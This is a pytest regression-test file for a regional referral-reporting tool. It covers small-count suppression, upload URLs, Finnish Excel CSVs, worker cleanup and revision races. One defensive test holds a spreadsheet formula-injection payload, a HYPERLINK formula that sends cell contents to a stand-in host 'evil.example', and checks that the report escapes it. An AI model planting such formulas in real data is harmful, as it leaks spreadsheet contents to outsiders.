"""Faults found in review of the region's picture: the report's tables give nothing
away across tables, upload addresses with a query string, Excel population files,
messages in one language."""

from __future__ import annotations

import json
import re
import sqlite3
import uuid
from collections.abc import Iterator
from datetime import date
from pathlib import Path

import pytest

from hytedesk.admin.main import main as admin_main
from hytedesk.admin.region import collect, load_keys
from hytedesk.admin.region_report import sections_for
from hytedesk.app.session import open_session
from hytedesk.base import i18n
from hytedesk.base.paths import Paths
from hytedesk.bundle import upload
from hytedesk.local.localdb import LocalDB
from hytedesk.outbox.prepare import pending, prepare
from hytedesk.outbox.reports import report_wrong
from hytedesk.outbox.send import package_url, send
from tests.region.conftest import Nginx, laptop_home, record


@pytest.fixture(autouse=True)
def _language_kept() -> Iterator[None]:
    """--lang in a command sets the process's language; later tests expect it unchanged."""
    before = i18n.language()
    yield
    i18n.set_language(before)


def package(installation: str, period: str, themes: dict[str, int], *,
            revision: int = 1, created: str = "2026-12-01T10:00:00Z") -> dict:
    """A valid package of one laptop-month: one referral per theme count, Puolanka."""
    rows = [{"municipality": "Puolanka", "age_band": "75+", "theme": t, "outcome": None,
             "outcome_reason": None, "count": n} for t, n in themes.items() if n]
    return {"format": upload.FORMAT, "format_version": upload.FORMAT_VERSION,
            "package_id": str(uuid.uuid4()), "installation_id": installation,
            "created": created, "period": period, "revision": revision, "catalogue": None,
            "referrals": [{"municipality": "Puolanka", "age_band": "75+", "outcome": None,
                           "outcome_reason": None, "count": sum(themes.values())}],
            "situations": [], "themes": rows, "unmet": [], "local_services": [],
            "wrong_reports": []}


def report_wrong_entry(paths: Paths, local: LocalDB, sid: str, reason: str,
                       note: str = "") -> None:
    """A nurse's "this entry is wrong" report, against the laptop's current catalogue."""
    session = open_session(paths)
    try:
        report_wrong(local, session.conn, sid, reason, note)
    finally:
        session.close()


def collected(tmp_path: Path, region_key: tuple[Path, str], *packages: dict) -> Path:
    key, public = region_key
    folder = tmp_path / "upload"
    folder.mkdir(exist_ok=True)
    for p in packages:
        (folder / f"{p['package_id']}.age").write_bytes(upload.encrypt(p, [public]))
    db = tmp_path / "region.db"
    with open(tmp_path / "collect.err", "w") as err:
        result = collect([folder], load_keys([key]), db, err=err)
    assert not result.refused
    return db


def test_the_trend_hides_what_the_priority_area_table_hides(
        tmp_path: Path, region_key: tuple[Path, str]) -> None:
    # March: area 1 20, area 2 3 (hidden), area 3 10; February: 1 and 6. The trend's
    # "this period" used to be suppressed apart from the table above it: it hid area 2
    # and area 1 but showed area 3 = 10, which the table above had hidden — so 33 - 20 -
    # 10 gave back area 2's 3.
    laptop = str(uuid.uuid4())
    db = collected(tmp_path, region_key,
                   package(laptop, "2026-03", {"1": 20, "2": 3, "3": 10}),
                   package(laptop, "2026-02", {"1": 1, "2": 6}))
    s = sections_for(db, "2026-03", "2026-03")
    bars = dict(s["themes"].bars)
    month_total = next(r[2] for r in s["themes"].rows if r[1] == "total")
    assert month_total == "33"
    trend_now = {r[0]: r[2] for r in s["trend"].rows}
    known = {label: (str(n) if n is not None else trend_now[label])
             for label, n in bars.items()}
    hidden = [label for label, v in known.items() if v == "<5"]
    assert len(hidden) != 1, f"one hidden area is 33 minus the others: {known}"
    assert trend_now == {label: ("<5" if n is None else str(n)) for label, n in bars.items()}


def test_an_upload_address_with_a_query_string_keeps_it_after_the_name(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, region_key: tuple[Path, str],
        nginx: Nginx) -> None:
    # A container token (https://…/container?sv=…&sig=…) used to become the folder name:
    # the package went to ".../upload/?sig=abc/<id>.age", which nginx refused with 409.
    paths = laptop_home(tmp_path / "laptop", monkeypatch, region_key[1])
    record(paths, date(2026, 11, 5), ("loneliness",), "Puolanka")
    with LocalDB(paths) as local:
        prepare(local)
        ids = [p.uuid for p in pending(local)]
        result = send(local, url=nginx.url + "?sv=2024&sig=abc%2Fdef")
        assert result.error is None and pending(local) == []
    assert sorted(p.name for p in nginx.root.iterdir()) == sorted(i + ".age" for i in ids)
    assert package_url("https://x.fi/up/?sig=a", "p.age") == "https://x.fi/up/p.age?sig=a"


@pytest.mark.parametrize("encoding", ["cp1252", "utf-8-sig"])
def test_a_population_file_from_finnish_excel_is_read(
        tmp_path: Path, region_key: tuple[Path, str], encoding: str,
        capsys: pytest.CaptureFixture[str]) -> None:
    # Excel in Finnish saves ";"-separated Windows-1252 (or UTF-8 with a BOM), thousands
    # grouped with a no-break space; this ended in a UnicodeDecodeError traceback.
    db = collected(tmp_path, region_key, package(str(uuid.uuid4()), "2026-11", {"4": 12}))
    csv_file = tmp_path / "väestö.csv"
    csv_file.write_bytes("Kunta-nro;Väkiluku;Vuosi;Nimi\r\n620;2\u00a0359;2023;Puolanka\r\n"
                         "105;2 063;2023;Hyrynsalmi\r\n".encode(encoding))
    out = tmp_path / "report"
    assert admin_main(["report", str(db), "--from", "2026-11", "--to", "2026-11",
                       "--population", str(csv_file), "-o", str(out), "--lang", "fi"]) == 0
    rows = (out / "municipalities.csv").read_text(encoding="utf-8").splitlines()
    assert rows[1] == 'Puolanka,12,2359,"5,1"'
    # A population file that is not there is one line, exit 2, in the user's language.
    assert admin_main(["report", str(db), "--from", "2026-11", "--to", "2026-11",
                       "--population", str(tmp_path / "puuttuu.csv"), "-o", str(out),
                       "--lang", "sv"]) == 2
    err = capsys.readouterr().err
    assert "puuttuu.csv: kan inte läsas" in err and "Traceback" not in err


def test_messages_are_in_one_language(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                      region_key: tuple[Path, str],
                                      capsys: pytest.CaptureFixture[str]) -> None:
    from hytedesk.commands.main import main as cli_main

    paths = laptop_home(tmp_path / "laptop", monkeypatch, region_key[1])
    with LocalDB(paths) as local:
        report_wrong_entry(paths, local, "vertais", "wrong-phone", "Numero vaihtui")
    # The laptop's own list printed the reason's code ("wrong-phone") in Finnish output.
    assert cli_main(["--lang", "fi", "outbox", "status"]) == 0
    out = capsys.readouterr().out
    assert "väärä puhelinnumero — Numero vaihtui" in out and "wrong-phone" not in out
    # A refused package's English line said "field revision: count".
    bad = package(str(uuid.uuid4()), "2026-11", {"4": 5})
    bad["revision"] = 0
    i18n.set_language("en")
    with pytest.raises(upload.PackageError) as refused:
        upload.check(bad, "bad.age")
    assert str(refused.value) == "bad.age: field revision: expected a whole number 1–1000000"


def test_accept_local_refuses_a_file_that_is_not_a_service_list(
        tmp_path: Path, region_key: tuple[Path, str],
        capsys: pytest.CaptureFixture[str]) -> None:
    p = package(str(uuid.uuid4()), "2026-11", {"4": 5})
    p["local_services"] = [{"id": "local-1", "updated_at": "2026-11-02T08:00:00Z",
                            "record": {"id": "local-1", "name": "Ämmänsaaren kyläkerho"}}]
    db = collected(tmp_path, region_key, p)
    target = tmp_path / "hyväksytyt.json"
    target.write_text('{"services": []}', encoding="utf-8")  # an object, not a list
    # This ended in an AttributeError traceback (exit 1).
    assert admin_main(["accept-local", str(db), "local-1", "-o", str(target),
                       "--lang", "fi"]) == 2
    assert "ei ole HSDS-palveluluettelo" in capsys.readouterr().err
    assert target.read_text(encoding="utf-8") == '{"services": []}'
    # A list saved with a byte-order mark (Notepad) is read and extended.
    target.write_text('\ufeff[{"id": "old", "name": "Vanha"}]', encoding="utf-8")
    assert admin_main(["accept-local", str(db), "local-1", "-o", str(target),
                       "--lang", "fi"]) == 0
    assert [s["name"] for s in json.loads(target.read_text(encoding="utf-8"))] == \
        ["Vanha", "Ämmänsaaren kyläkerho"]


def _children(pid: int) -> set[int]:
    out = set()
    for stat in Path("/proc").glob("[0-9]*/stat"):
        try:
            fields = stat.read_text().rsplit(")", 1)[1].split()
        except OSError:
            continue
        if int(fields[1]) == pid:
            out.add(int(stat.parent.name))
    return out


@pytest.mark.skipif(not Path("/proc/self/stat").exists(), reason="reads /proc")
def test_a_killed_collect_leaves_no_workers_and_a_rerun_counts_each_package_once(
        tmp_path: Path, region_key: tuple[Path, str]) -> None:
    import os
    import signal
    import subprocess
    import sys
    import time

    key, public = region_key
    folder = tmp_path / "upload"
    folder.mkdir()
    laptop = str(uuid.uuid4())
    files = []
    for i in range(70):  # enough for collect to open them in worker processes
        p = package(laptop if i % 2 else str(uuid.uuid4()), f"20{10 + i // 12}-"
                    f"{i % 12 + 1:02d}", {"4": 5 + i})
        files.append(folder / f"{p['package_id']}.age")
        files[-1].write_bytes(upload.encrypt(p, [public]))
    stuck = tmp_path / "stuck.age"  # a FIFO: the worker that opens it waits for a writer
    os.mkfifo(stuck)
    db = tmp_path / "region.db"
    proc = subprocess.Popen(
        [sys.executable, "-m", "hytedesk.admin.main", "collect", *map(str, files), str(stuck),
         "--key", str(key), "-o", str(db), "--lang", "en"],
        stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    workers: set[int] = set()
    deadline = time.monotonic() + 120
    while len(workers) < 2 and time.monotonic() < deadline and proc.poll() is None:
        workers = {c for c in _children(proc.pid)
                   if b"spawn_main" in Path(f"/proc/{c}/cmdline").read_bytes()}
        time.sleep(0.1)
    assert workers, "collect did not start its worker processes"
    proc.send_signal(signal.SIGKILL)
    proc.wait()
    # The workers used to wait for work forever once their collector was killed.
    deadline = time.monotonic() + 60
    while workers and time.monotonic() < deadline:
        workers = {w for w in workers if Path(f"/proc/{w}").exists()
                   and "Z" not in Path(f"/proc/{w}/stat").read_text().rsplit(")", 1)[1][:3]}
        time.sleep(0.1)
    try:
        assert not workers, f"orphaned collect workers: {sorted(workers)}"
    finally:
        for w in workers:
            os.kill(w, signal.SIGKILL)
    # Collecting again takes each package once: nothing lost, nothing twice.
    with open(tmp_path / "collect.err", "w") as err:
        collect([folder], load_keys([key]), db, err=err)
    conn = sqlite3.connect(db)
    assert conn.execute("SELECT count(*), count(DISTINCT package_id) FROM packages"
                        ).fetchone() == (70, 70)
    assert conn.execute("SELECT sum(count) FROM referral_counts").fetchone()[0] == \
        sum(5 + i for i in range(70))
    conn.close()


@pytest.mark.parametrize("case", ["cloned", "restored"])
def test_collect_warns_when_one_installation_id_tells_two_stories(
        tmp_path: Path, region_key: tuple[Path, str], case: str,
        capsys: pytest.CaptureFixture[str]) -> None:
    # Two laptops from one disk image share an installation id and number their months'
    # packages alike; a laptop restored from an old backup numbers a month again from a
    # lower revision. Only one package per installation and month counts, silently.
    laptop = str(uuid.uuid4())
    first = package(laptop, "2026-11", {"4": 9}, revision=3, created="2026-11-20T08:00:00Z")
    second = package(laptop, "2026-11", {"4": 6}, revision=3 if case == "cloned" else 2,
                     created="2026-11-21T08:00:00Z")
    fine = package(str(uuid.uuid4()), "2026-11", {"4": 5}, revision=2,
                   created="2026-11-22T08:00:00Z")
    older = package(fine["installation_id"], "2026-11", {"4": 4}, revision=1,
                    created="2026-11-01T08:00:00Z")
    key, public = region_key
    folder = tmp_path / "upload"
    folder.mkdir()
    for p in (first, second, fine, older):
        (folder / f"{p['package_id']}.age").write_bytes(upload.encrypt(p, [public]))
    assert admin_main(["collect", str(folder), "--key", str(key), "-o",
                       str(tmp_path / "region.db"), "--lang", "en"]) == 0
    err = capsys.readouterr().err
    assert f"Warning: installation {laptop} has conflicting packages for 2026-11" in err
    assert fine["installation_id"] not in err


def test_a_key_file_saved_on_windows_opens_the_packages(
        tmp_path: Path, region_key: tuple[Path, str]) -> None:
    # Notepad: CRLF line ends and a byte-order mark, the key itself on the first line.
    key, _public = region_key
    secret = next(line for line in key.read_text().splitlines()
                  if line.startswith("AGE-SECRET-KEY-1"))
    windows = tmp_path / "alueen avain.txt"
    windows.write_bytes(b"\xef\xbb\xbf" + secret.encode() + b"\r\n# kopio\r\n")
    assert [str(k) for k in load_keys([windows])] == [secret]


def test_preparing_again_without_changes_makes_no_new_package(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, region_key: tuple[Path, str]) -> None:

    paths = laptop_home(tmp_path / "laptop", monkeypatch, region_key[1])
    record(paths, date(2026, 11, 5), ("loneliness",), "Puolanka")
    with LocalDB(paths) as local:
        report_wrong_entry(paths, local, "vertais", "closed", "")
        assert prepare(local).packages
        before = [(p.uuid, p.revision) for p in pending(local)]
        # A report waiting in an unsent package used to make the newest month's package
        # again, with a new revision, at every prepare (every sync, every day).
        assert prepare(local).packages == []
        assert [(p.uuid, p.revision) for p in pending(local)] == before
        # A new report does make it again, carrying both.
        report_wrong_entry(paths, local, "vertais", "wrong-phone", "")
        assert len(prepare(local).packages) == 1


def test_a_month_without_referrals_is_zero_and_a_month_without_packages_no_data(
        tmp_path: Path, region_key: tuple[Path, str]) -> None:
    # December's package carries only a wrong-entry report: December had 0 referrals. No
    # laptop sent anything for January or for the previous period. The months table used
    # to leave December and January out, and the trend compared with a made-up 0 (+12).
    laptop = str(uuid.uuid4())
    december = package(laptop, "2026-12", {})
    december["referrals"] = []
    december["wrong_reports"] = [{
        "id": str(uuid.uuid4()), "service_id": "s1", "service_name": "Kerho",
        "catalogue_id": "kainuu", "catalogue_version": 3, "reason": "closed", "note": None,
        "created": "2026-12-02"}]
    db = collected(tmp_path, region_key, package(laptop, "2026-11", {"4": 12}), december)
    s = sections_for(db, "2026-11", "2027-01")
    assert s["months"].rows == [["2026-11", "12"], ["2026-12", "0"], ["2027-01", "no data"],
                                ["total", "12"]]
    assert s["trend"].rows[0][1:] == ["no data", "12", "–"]


def test_long_names_are_shortened_in_the_pdf_not_run_into_the_next_cell(
        tmp_path: Path, region_key: tuple[Path, str]) -> None:
    from pypdf import PdfReader

    from hytedesk.admin.region_report import report

    long_name = "Pohjois-Kainuun " + "ja Kehys-Kainuun " * 3 + "yhteistoiminta-alue"
    p = package(str(uuid.uuid4()), "2026-11", {"4": 12})
    p["referrals"][0]["municipality"] = long_name
    db = collected(tmp_path, region_key, p)
    out = tmp_path / "report"
    report(db, "2026-11", "2026-11", out, lang="fi")
    text = "".join(page.extract_text() for page in PdfReader(out / "report.pdf").pages)
    # The chart's label column is 72 mm: the name is cut there with "…" (it ran into
    # the bar); the table's wide name column shows it whole.
    assert re.search(r"Pohjois-Kainuun ja Kehys-Kainuun[^…\n]*…", text)
    assert long_name in (out / "report.html").read_text(encoding="utf-8")


def test_two_prepares_at_once_never_give_a_month_the_same_revision(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, region_key: tuple[Path, str]) -> None:
    # The window's background run and File › Export can prepare at the same time. Each
    # read the month's revision before its write transaction, so both made revision 1;
    # the region then took the two as two laptops sharing an id and counted one.
    import threading

    from hytedesk.outbox.prepare import mark_sent

    paths = laptop_home(tmp_path / "laptop", monkeypatch, region_key[1])
    record(paths, date(2026, 11, 5), ("loneliness",), "Puolanka")
    real_encrypt = upload.encrypt
    other: list[threading.Thread] = []

    def other_run() -> None:  # the second run, on its own connection, sends at once
        with LocalDB(paths) as second:
            for made in prepare(second).packages:
                mark_sent(second, made)

    def encrypt_meanwhile(package: dict, keys: list[str]) -> bytes:
        if not other:
            other.append(threading.Thread(target=other_run))
            other[0].start()
            other[0].join(timeout=3)  # it waits for our transaction if we hold one
        return real_encrypt(package, keys)

    monkeypatch.setattr(upload, "encrypt", encrypt_meanwhile)
    with LocalDB(paths) as local:
        prepare(local)
    other[0].join()
    with LocalDB(paths) as local:
        rows = [tuple(r) for r in local.conn.execute("SELECT period, revision FROM outbox")]
    assert len(rows) == len(set(rows)), rows


def test_a_formula_in_a_package_stays_text_in_the_csv_files(
        tmp_path: Path, region_key: tuple[Path, str]) -> None:
    # Packages are not signed: anyone with the region's public key can send one, and a
    # municipality "=HYPERLINK(…)" became a live formula in Excel.
    from hytedesk.admin.region_report import report

    formula = '=HYPERLINK("http://evil.example/?"&A1;"Kuhmo")'
    p = package(str(uuid.uuid4()), "2026-11", {"4": 12})
    p["referrals"][0]["municipality"] = formula
    laptop = package(str(uuid.uuid4()), "2026-10", {"4": 6})  # a previous period: +6
    db = collected(tmp_path, region_key, p, laptop)
    out = tmp_path / "report"
    report(db, "2026-11", "2026-11", out, lang="en")
    for name in ("municipalities.csv", "municipalities.excel.csv"):
        text = (out / name).read_text(encoding="utf-8-sig")
        assert "'=HYPERLINK" in text and "\n=" not in text and ";=" not in text
    assert "+6" in (out / "trend.csv").read_text(encoding="utf-8")


def test_collect_into_another_database_changes_nothing_in_it(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, region_key: tuple[Path, str],
        capsys: pytest.CaptureFixture[str]) -> None:
    # "-o local.db" by mistake: collect added its tables to the laptop's database, set
    # its application id and switched it to WAL.
    paths = laptop_home(tmp_path / "laptop", monkeypatch, region_key[1])
    target = paths.data / "local.db"
    before = target.read_bytes()
    folder = tmp_path / "upload"
    folder.mkdir()
    assert admin_main(["collect", str(folder), "--key", str(region_key[0]), "-o",
                       str(target), "--lang", "fi"]) == 2
    assert "ei ole HyteDeskin aluetietokanta" in capsys.readouterr().err
    assert target.read_bytes() == before
